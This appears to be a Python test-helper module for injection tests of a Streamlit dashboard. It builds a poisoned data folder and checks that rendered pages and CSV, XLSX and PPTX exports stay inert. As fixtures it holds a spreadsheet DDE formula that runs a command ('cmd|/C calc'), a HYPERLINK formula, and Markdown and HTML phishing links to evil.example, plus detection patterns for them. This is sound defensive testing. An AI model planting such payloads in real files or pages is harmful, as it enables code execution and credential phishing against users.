"""Shared pieces of the injection tests (issue 10): attack texts, a poisoned folder, checks of
what the app renders and exports."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
from office_files import seed_bytes, seed_lines
from pptx import Presentation
from streamlit.testing.v1 import AppTest

from dashboard import markup
from loaders import intake

ROOT = Path(__file__).resolve().parent.parent
TIMEOUT = 90
# The spreadsheet formulas of the issue, as project names of the low-execution rows of 000.
FORMULAS = {
    "高龄老人意外险项目": "=cmd|'/C calc'!A0",
    "家庭能力建设": "+1+2",
    "老龄业务工作": "-3+4",
    "医疗卫生应急项目": "@SUM(1+1)",
    "北京中医药大学深圳医院（龙岗）园山门诊部信息化基础建设工程": '=HYPERLINK("http://x"&A1,"点击")',
}
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# The Markdown of the issue: a link and an image in ?doc=, and a unit name stored with both.
LINK_DOC = "[点此重新登录](http://evil.example/login)"
IMAGE_DOC = "![x](http://host/x.png)"
MD_UNIT = "单位![x](http://h/x.png)[请重新登录](http://evil/)"
# plotly draws <a href> in any label: a unit named so, on the charts by unit.
PLOT_UNIT = '<a href="http://evil.example/plot">点此登录</a>'
# Pages registered in app.py, by script.
PAGES = re.findall(r'st\.Page\("([^"]+)"', (ROOT / "app.py").read_text("utf-8"))
# Proto fields that Streamlit renders as Markdown: alert, caption, heading and markdown bodies,
# and the labels and tooltips of metrics, expanders, tabs, buttons and widgets.
MARKDOWN_FIELDS = ("body", "label", "help")
# Element types whose body is not Markdown: plain text, or HTML (checked on its own).
PLAIN_BODIES = ("Metric", "Text", "Code", "Json", "Html")


def formula_csv() -> bytes:
    """Seed 000 as a CSV file whose low-execution projects are named by FORMULAS."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for line in seed_lines("000"):
        cells = line.split("\t")
        if len(cells) > 2 and cells[2] in FORMULAS:
            cells[2] = FORMULAS[cells[2]]
        writer.writerow(cells)
    return buffer.getvalue().encode("utf-8")


def poisoned_folder(root: Path) -> tuple[Path, Path]:
    """A raw folder with the formula CSV, seed 004 imported under MD_UNIT and seed 002 under
    PLOT_UNIT (as `python -m loaders add 004.txt --unit '…'` would), and its tables."""
    raw, out = root / "raw", root / "parquet"
    raw.mkdir(parents=True)
    intake.add("注入.csv", formula_csv(), raw, out)
    intake.add("单位.txt", seed_bytes("004"), raw, out, {"unit": MD_UNIT})
    intake.add("申报.txt", seed_bytes("002"), raw, out, {"unit": PLOT_UNIT})
    return raw, out


def open_page(page: str, query: dict | None = None) -> AppTest:
    """Run app.py (the router) on a page, with query parameters as a link would set them."""
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=TIMEOUT)
    at.secrets.update({"import_password_sha256": ""})
    for key, value in (query or {}).items():
        at.query_params[key] = value
    if page != PAGES[0]:
        at.switch_page(page)  # a deep link: the router runs this page first
    return at.run()


def _nodes(node):
    yield node
    for child in getattr(node, "children", {}).values():
        yield from _nodes(child)


def _strings(message, names):
    """(field name, text) of every string field of a proto message named in names, nested."""
    for field, value in message.ListFields():
        if field.type == field.TYPE_MESSAGE:
            items = value if field.is_repeated else [value]
            for item in items:
                yield from _strings(item, names)
        elif field.type == field.TYPE_STRING and field.name in names:
            items = value if field.is_repeated else [value]
            for item in items:
                yield field.name, item


def html_bodies(at: AppTest) -> list[str]:
    """The bodies of the run's st.html elements (the 原文 page's numbered lines)."""
    return [n.proto.body for n in _nodes(at._tree) if type(n).__name__ == "Html"]


# In our st.html: the line anchors (href="#L12") and one scroll script; anything else is not ours.
_FOREIGN_HTML = re.compile(
    r"<a\s(?![^>]*href=\"#L\d+\")|<img|<iframe|<[^>]*\son\w+=", re.IGNORECASE
)


def markdown_texts(at: AppTest) -> list[str]:
    """Every text of the run that Streamlit renders as Markdown."""
    out = []
    for node in _nodes(at._tree):
        proto = getattr(node, "proto", None)
        if proto is None:
            continue
        for name, text in _strings(proto, MARKDOWN_FIELDS):
            if name == "body" and type(node).__name__ in PLAIN_BODIES:
                continue
            out.append(text)
    return out


# A Markdown link or image, a bare URL or address that remark-gfm links, a Streamlit shortcode.
_LIVE_MARKDOWN = re.compile(r"\]\(|!\[|://|www\.|:[\w-]+:|(?<!\\)\$|\w@\w", re.IGNORECASE)


def live_markdown(text: str) -> str | None:
    """The first piece of text that Streamlit would render as a link, an image, a bare link or a
    shortcode, or None when the text is inert."""
    match = _LIVE_MARKDOWN.search(text)
    return match.group() if match else None


def shown(markdown: str) -> str:
    """The text a reader sees of Markdown made by markup.md_escape (escapes and joiners gone)."""
    return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", markdown).replace(markup.WORD_JOINER, "")


def assert_inert(at: AppTest, *raw: str) -> None:
    """No exception; no Markdown text of the run holds a live link, image or shortcode, nor one
    of the raw attack texts unescaped."""
    assert not at.exception, [e.value for e in at.exception]
    for body in html_bodies(at):
        assert _FOREIGN_HTML.search(body) is None, _FOREIGN_HTML.search(body).group()
        assert body.count("<script") <= 1
    for text in markdown_texts(at):
        assert live_markdown(text) is None, (live_markdown(text), text)
        for attack in raw:  # a text that would render live is shown escaped, if at all
            if live_markdown(attack) is not None and attack in text:
                assert markup.md_escape(attack) in text, (attack, text)


# A number as a CSV or a slide prints it (-3.5, -1,234.00, -5.0 %): a spreadsheet reads a number.
_PLAIN_NUMBER = re.compile(r"-?[\d,]+(\.\d+)?( ?%)?")


def formula_cells(texts) -> list[str]:
    """The texts a spreadsheet would read as formulas (negative numbers are numbers)."""
    return [
        t
        for t in texts
        if isinstance(t, str) and t.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.fullmatch(t)
    ]


def csv_cells(data: bytes) -> list[str]:
    text = io.StringIO(data.decode("utf-8-sig"), newline="")
    return [c for row in csv.reader(text) for c in row]


def xlsx_cells(data: bytes) -> list:
    """Every cell of the workbook (openpyxl cells: value and data_type)."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def pptx_texts(data: bytes) -> tuple[list[str], list[str]]:
    """(table cell texts, other paragraph texts) of a deck."""
    cells, paragraphs = [], []
    for slide in Presentation(io.BytesIO(data)).slides:
        for shape in slide.shapes:
            if shape.has_table:
                cells += [c.text for row in shape.table.rows for c in row.cells]
            elif shape.has_text_frame:
                paragraphs += [p.text for p in shape.text_frame.paragraphs]
    return cells, paragraphs
